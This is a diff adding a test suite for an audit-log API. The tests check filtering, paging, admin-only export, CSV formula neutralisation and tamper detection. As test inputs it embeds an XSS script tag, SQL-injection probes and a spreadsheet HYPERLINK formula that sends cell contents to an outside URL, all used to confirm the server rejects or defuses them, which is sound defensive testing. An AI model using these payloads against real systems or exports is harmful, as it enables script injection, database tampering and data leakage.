@@ -1,0 +1,220 @@
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { createChainer } from '../../../src/audit/chain.ts';
+import { createServiceAccount } from '../../../src/tokens/service-accounts.ts';
+import { makeToken } from '../../support/api-tokens.ts';
+import { type Json, openTestApp, type TestApp } from '../../support/app.ts';
+
+const ODD = 'Größe + "x" <script>alert(1)</script> 🗝';
+const FORMULA = '=HYPERLINK("https://example.com?"&A1;"😀, ""ü""")';
+
+let app: TestApp;
+beforeEach(async () => {
+  app = await openTestApp();
+});
+afterEach(() => app.close());
+
+const logs = async (query = '', options = {}) => {
+  const { status, body } = await app.call('GET', `/api/audit-logs${query}`, options);
+  expect(status).toBe(200);
+  return body;
+};
+const newEnvironment = async (name: string, headers = {}) =>
+  (await app.call('POST', '/api/environments', { body: { name }, headers })).body.environment.id;
+const chain = () => createChainer(app.services)(new AbortController().signal);
+
+describe('GET /api/audit-logs', () => {
+  it('answers as the contract says, with who did it, from where and in which request', async () => {
+    const id = await newEnvironment(ODD, { 'x-request-id': 'req-7' });
+    const [log] = (await logs('?limit=1', { token: app.tokens.viewer })).logs;
+    expect(log).toEqual({
+      ...{ id: expect.any(String), action: 'create', resourceType: 'environment', resourceId: id },
+      ...{ resourceName: ODD, details: log.details, success: true, error: null, batchId: null },
+      createdAt: expect.stringMatching(/^2\d{3}-\d\d-\d\dT[\d:.]{12}Z$/),
+      ...{ userId: app.userIds.admin, environmentId: id, apiTokenId: null, serviceAccountId: null },
+      user: { id: app.userIds.admin, email: 'admin@example.com', name: null },
+      ...{ environment: { id, name: ODD }, serviceAccount: null, tokenPrefix: null },
+      ...{ address: '203.0.113.7', requestId: 'req-7', number: null, hash: null },
+    });
+    await chain();
+    expect((await logs('?limit=1')).logs[0]).toMatchObject({
+      number: expect.any(Number),
+      hash: expect.stringMatching(/^[0-9a-f]{64}$/),
+    });
+  });
+
+  it('filters by what the contract names, and pages by offset and by what comes next', async () => {
+    const ids = [await newEnvironment('ä'), await newEnvironment('ö'), await newEnvironment('ü')];
+    await app.call('DELETE', `/api/environments/${ids[0]}`);
+    const found = async (query: string) => {
+      const { logs: rows, total, totalIsExact } = await logs(query);
+      return [rows.map((row: Json) => `${row['action']} ${row['resourceName']}`), total, totalIsExact];
+    };
+    expect(await found('?resourceType=environment')).toEqual([
+      ['delete ä', 'create ü', 'create ö', 'create ä'],
+      4,
+      true,
+    ]);
+    expect(await found('?resourceType=environment&action=create&limit=2&offset=1')).toEqual([
+      ['create ö', 'create ä'],
+      3,
+      true,
+    ]);
+    expect(await found(`?resourceId=${ids[0]}`)).toEqual([['delete ä', 'create ä'], 2, true]);
+    expect(await found(`?environmentId=${ids[1]}`)).toEqual([['create ö'], 1, true]);
+    expect(await found('?resourceType=environment&offset=9')).toEqual([[], 4, true]);
+    expect(await found('?action=nothing')).toEqual([[], 0, true]);
+    const seen: string[] = [];
+    let next: string | null = '';
+    while (next !== null) {
+      const page: Json = await logs(`?limit=2${next === '' ? '' : `&before=${encodeURIComponent(next)}`}`);
+      expect(page['total']).toBeGreaterThanOrEqual(seen.length);
+      seen.push(...(page['logs'] as { id: string }[]).map(({ id }) => id));
+      next = page['next'] as string | null;
+    }
+    const { total, logs: whole } = await logs('?limit=1000');
+    expect(seen).toEqual(whole.map(({ id }: { id: string }) => id));
+    expect(total).toBe(seen.length);
+    await chain();
+    expect((await logs()).total).toBe(seen.length);
+  });
+
+  it('takes a strange limit as none, as the contract says, and refuses what makes no sense', async () => {
+    const { logs: usual } = await logs();
+    for (const query of ['?limit=0', '?limit=abc', '?limit=-5', '?limit=', '?offset=x', '?nothing=1']) {
+      expect((await logs(query)).logs).toEqual(usual);
+    }
+    for (const query of [
+      ...['?since=yesterday', '?until=2026-13-40', '?success=maybe', '?before=x', '?q=%00'],
+      `?action=${'ü'.repeat(400)}`,
+      '?before=2026-11-29T12:00:00.000Z_%27%20or%201=1',
+    ]) {
+      const { status, body } = await app.call('GET', `/api/audit-logs${query}`);
+      expect([query, status, body.code]).toEqual([query, 400, 'VALIDATION_ERROR']);
+    }
+    const odd = encodeURIComponent("%' or 1=1; -- \\ _ ");
+    expect((await logs(`?q=${odd}&resourceId=${odd}`)).logs).toEqual([]);
+  });
+
+  it('names the token and the account of what a machine did, also when both are gone', async () => {
+    const nobody = { userId: null, address: null };
+    const account = await createServiceAccount(app.services, nobody, { name: 'nightly', role: 'admin' });
+    const { token, id } = await makeToken(app, { serviceAccountId: account.id }, { role: 'admin' });
+    await app.call('POST', '/api/environments', { token, body: { name: ODD } });
+    const [log] = (await logs('?resourceType=environment')).logs;
+    expect(log).toMatchObject({
+      ...{ apiTokenId: id, tokenPrefix: token.slice(0, 14), serviceAccountId: account.id, userId: null },
+      ...{ user: null, serviceAccount: { id: account.id, name: 'nightly' } },
+    });
+    await app.call('DELETE', `/api/admin/service-accounts/${account.id}`);
+    expect((await logs('?resourceType=environment')).logs).toEqual([{ ...log, serviceAccount: null }]);
+  });
+});
+
+describe('the export', () => {
+  it('is for admins, and audited with what was asked', async () => {
+    expect(
+      (await app.call('GET', '/api/audit-logs/export?format=csv', { token: app.tokens.operator })).status,
+    ).toBe(403);
+    expect((await app.call('GET', '/api/audit-logs/export?format=xlsx')).status).toBe(400);
+    await newEnvironment(ODD);
+    const { status, headers, body } = await app.call(
+      'GET',
+      '/api/audit-logs/export?format=jsonl&resourceType=environment&q=gr%C3%B6%C3%9Fe',
+    );
+    expect([status, headers.get('content-type'), headers.get('cache-control')]).toEqual([
+      ...[200, 'application/x-ndjson; charset=utf-8', 'no-store'],
+    ]);
+    expect(headers.get('content-disposition')).toMatch(
+      /^attachment; filename="?audit-2\d{3}-\d\d-\d\d\.jsonl/,
+    );
+    expect(body.trimEnd().split('\n').map(JSON.parse)).toMatchObject([
+      { resourceName: ODD, userEmail: 'admin@example.com', success: true },
+    ]);
+    const [log] = (await logs('?resourceType=audit_log')).logs;
+    expect(JSON.parse(log.details)).toEqual({
+      format: 'jsonl',
+      filters: { resourceType: 'environment', q: 'größe' },
+    });
+    expect([log.action, log.userId, log.address]).toEqual(['export', app.userIds.admin, '203.0.113.7']);
+  });
+
+  it('makes no cell of a spreadsheet a formula, and keeps each in its place', async () => {
+    await newEnvironment(FORMULA);
+    for (const start of ['+1', '-1', '@x', '\t=1', ' =1', '＝1']) {
+      await app.call('PATCH', `/api/users/${app.userIds.viewer}`, { body: { name: `${start} "${ODD}", x` } });
+    }
+    const { body } = await app.call('GET', '/api/audit-logs/export?format=csv');
+    const [head = [], ...rows] = cellsOf(body);
+    expect(head.slice(0, 3)).toEqual(['createdAt', 'number', 'action']);
+    expect(rows.length).toBe((await logs('?limit=1000')).total);
+    for (const row of rows) {
+      expect(row).toHaveLength(head.length);
+      for (const cell of row) expect(cell).not.toMatch(/^\s*[=+@＝-]/);
+    }
+    expect(rows.flat()).toContain(`'${FORMULA}`);
+  });
+
+  it('gives more rows than one read holds, each once, and ends when nobody reads on', async () => {
+    const row = { action: 'update', resource_type: 'user', success: 1 } as const;
+    const rows = Array.from({ length: 1203 }, (_, n) => ({
+      ...row,
+      id: `c${n}`,
+      created_at: new Date(Date.UTC(2026, 0, 1) + n).toISOString(),
+    }));
+    for (let n = 0; n < rows.length; n += 400) {
+      await app.services.db
+        .insertInto('audit_logs')
+        .values(rows.slice(n, n + 400))
+        .execute();
+    }
+    const { body } = await app.call('GET', '/api/audit-logs/export?format=jsonl&until=2026-01-02');
+    const ids = body
+      .trimEnd()
+      .split('\n')
+      .map((line: string) => JSON.parse(line).id);
+    expect(ids).toEqual(rows.map(({ id }) => id).reverse());
+    const response = await app.app.request('/api/audit-logs/export?format=csv', {
+      headers: { authorization: `Bearer ${app.tokens.admin}` },
+    });
+    const reader = response.body?.getReader();
+    expect(new TextDecoder().decode((await reader?.read())?.value)).toMatch(/^"createdAt","number"/);
+    await reader?.cancel();
+  });
+});
+
+describe('GET /api/audit-logs/verify', () => {
+  it('is for admins, and tells of what was changed past the app', async () => {
+    expect((await app.call('GET', '/api/audit-logs/verify', { token: app.tokens.operator })).status).toBe(
+      403,
+    );
+    await newEnvironment(ODD);
+    const verify = async () => (await app.call('GET', '/api/audit-logs/verify')).body;
+    expect(await verify()).toMatchObject({ intact: true, rows: 0, head: null, start: null });
+    await chain();
+    const good = await verify();
+    expect(good).toMatchObject({
+      ...{ intact: true, faults: [], faultCount: 0, lateRows: 0, start: null },
+      ...{ head: { number: good.rows }, unchained: { rows: 0, oldestAt: null } },
+    });
+    const { id } = await app.services.db
+      .updateTable('audit_logs')
+      .set({ resource_name: 'harmless' })
+      .where('action', '=', 'create')
+      .where('resource_type', '=', 'environment')
+      .returning('id')
+      .executeTakeFirstOrThrow();
+    const [first, second] = await Promise.all([verify(), verify()]);
+    expect(first).toMatchObject({ intact: false, faultCount: 1, faults: [{ kind: 'changed', id }] });
+    expect(second).toEqual(first);
+  });
+});
+
+/** The cells of RFC 4180. */
+function cellsOf(text: string): readonly (readonly string[])[] {
+  return text
+    .split('\r\n')
+    .slice(0, -1)
+    .map((line) =>
+      [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map(([, cell = '']) => cell.replaceAll('""', '"')),
+    );
+}
